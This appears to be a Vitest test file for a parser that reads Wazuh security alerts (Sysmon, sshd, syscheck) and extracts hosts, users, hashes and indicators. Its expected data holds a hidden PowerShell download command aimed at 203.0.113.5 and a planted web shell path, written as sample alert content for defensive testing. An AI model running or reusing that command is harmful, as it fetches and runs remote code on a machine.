import { describe, expect, it } from 'vitest';
import { alertsOf, payload, told, without } from '../reading/told.fixture.ts';
import { wazuh } from './wazuh.ts';

describe('wazuh', () => {
  it('reads what Sysmon saw', () => {
    const alerts = alertsOf(wazuh, payload('wazuh', 'sysmon.json'));
    expect(alerts.map(without)).toEqual([
      {
        facts: {
          vendor: 'wazuh',
          ids: {
            id: '1764066600.118822',
            'rule.id': '92052',
            'rule.level': '12',
            'agent.id': '007',
            'agent.name': 'ws-12',
            'agent.ip': '10.1.4.8',
            'manager.name': 'wazuh-manager',
            'cluster.name': 'wazuh',
            'cluster.node': 'node01',
            'decoder.name': 'windows_eventchannel',
            location: 'EventChannel',
          },
          severity: 'high',
          rule: 'Process connected to a rare host',
          occurredAt: '2026-11-24T10:30:00.000+0000',
        },
        key: 'node01 1764066600.118822',
        title: 'Process connected to a rare host',
        troubles: [],
      },
    ]);
    expect(alerts.map(told)).toEqual([
      [
        'host! agent.name (ipv4 ipv6 domain) ws-12',
        'host! agent.ip (ipv4 ipv6 domain) 10.1.4.8',
        'host! data.win.system.computer (ipv4 ipv6 domain) ws-12.corp.example.com',
        'source data.win.eventdata.sourceIp (ipv4 ipv6) 10.1.4.8',
        'destination data.win.eventdata.destinationIp (ipv4 ipv6) 203.0.113.5',
        'source! data.win.eventdata.sourceHostname (ipv4 ipv6 domain) ws-12.corp.example.com',
        'destination data.win.eventdata.destinationHostname (ipv4 ipv6 domain) drop.example.net',
        'user! data.win.eventdata.user (email) CORP\\\\ann',
        'process data.win.eventdata.image (file-path file-name) C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe',
        'mentioned rule.mitre.id[0] (attack-id) T1059.001',
        'file data.win.eventdata.hashes.SHA1 (sha1) DA39A3EE5E6B4B0D3255BFEF95601890AFD80709',
        'file data.win.eventdata.hashes.MD5 (md5) D41D8CD98F00B204E9800998ECF8427E',
        'file data.win.eventdata.hashes.SHA256 (sha256) A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F90',
        'mentioned data.win.eventdata.commandLine (text) powershell -nop -w hidden -c iwr http://203.0.113.5/a',
      ],
    ]);
  });

  it('reads the fields of a decoder and the log line', () => {
    const alerts = alertsOf(wazuh, payload('wazuh', 'sshd.json'));
    expect(alerts.map(without)).toEqual([
      {
        facts: {
          vendor: 'wazuh',
          ids: {
            id: '1764066660.120001',
            'rule.id': '5760',
            'rule.level': '5',
            'agent.id': '000',
            'agent.name': 'wazuh-manager',
            'manager.name': 'wazuh-manager',
            'decoder.name': 'sshd',
            location: '/var/log/auth.log',
          },
          severity: 'low',
          rule: 'sshd: authentication failed.',
          occurredAt: '2026-11-24T10:31:00.000+0000',
        },
        key: 'wazuh-manager 1764066660.120001',
        title: 'sshd: authentication failed.',
        troubles: [],
      },
    ]);
    expect(alerts.map(told)).toEqual([
      [
        'host! agent.name (ipv4 ipv6 domain) wazuh-manager',
        'host! predecoder.hostname (ipv4 ipv6 domain) gw.corp.example.com',
        'source data.srcip (ipv4 ipv6) 198.51.100.44',
        'user! data.dstuser (email) root',
        'mentioned full_log (text) Nov 24 10:31:00 gw sshd[811]: Failed password for root from 198.51.100.44 port 60022 ssh2',
      ],
    ]);
  });

  it('reads a file event that the shuffle integration wrapped, and fields it does not know', () => {
    const alerts = alertsOf(wazuh, payload('wazuh', 'syscheck-shuffle.json'));
    expect(alerts.map(without)).toEqual([
      {
        facts: {
          vendor: 'wazuh',
          ids: {
            id: '1764066720.1',
            'rule.id': '554',
            'rule.level': '7',
            'agent.id': '009',
            'agent.name': 'web-2',
            'agent.ip': '10.1.5.2',
            'manager.name': 'wazuh-manager',
            'decoder.name': 'syscheck_new_entry',
            location: 'syscheck',
            'syscheck.path': '/var/www/html/shell.php',
          },
          severity: 'medium',
          rule: 'File added to the system.',
          occurredAt: '2026-11-24T10:32:00.000+0000',
        },
        key: 'wazuh-manager 1764066720.1',
        title: 'File added to the system.',
        troubles: [],
      },
    ]);
    expect(alerts.map(told)).toEqual([
      [
        'host! all_fields.agent.name (ipv4 ipv6 domain) web-2',
        'host! all_fields.agent.ip (ipv4 ipv6 domain) 10.1.5.2',
        'user! all_fields.syscheck.uname_after (email) www-data',
        'file all_fields.syscheck.path (file-path file-name) /var/www/html/shell.php',
        'file all_fields.syscheck.md5_after (md5) d41d8cd98f00b204e9800998ecf8427e',
        'file all_fields.syscheck.sha1_after (sha1) da39a3ee5e6b4b0d3255bfef95601890afd80709',
        'file all_fields.syscheck.sha256_after (sha256) a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90',
        'mentioned all_fields.data.extra.ioc[0] (text) evil.example.org',
        'mentioned all_fields.data.extra.ioc[1].deep (text) 198.51.100.200',
      ],
    ]);
  });

  it.each([
    [15, 'critical'],
    [12, 'high'],
    [7, 'medium'],
    [3, 'low'],
  ])('takes level %i for %s', (level, severity) => {
    const [alert] = alertsOf(wazuh, payload('wazuh', 'sshd.json').replace('"level": 5', `"level": ${level}`));
    expect(alert?.facts.severity).toBe(severity);
  });

  it('reads each alert of a list', () => {
    const body = `[${payload('wazuh', 'sshd.json')},${payload('wazuh', 'sysmon.json')}]`;
    expect(alertsOf(wazuh, body).map(({ key }) => key)).toEqual(['wazuh-manager 1764066660.120001', 'node01 1764066600.118822']);
  });
});
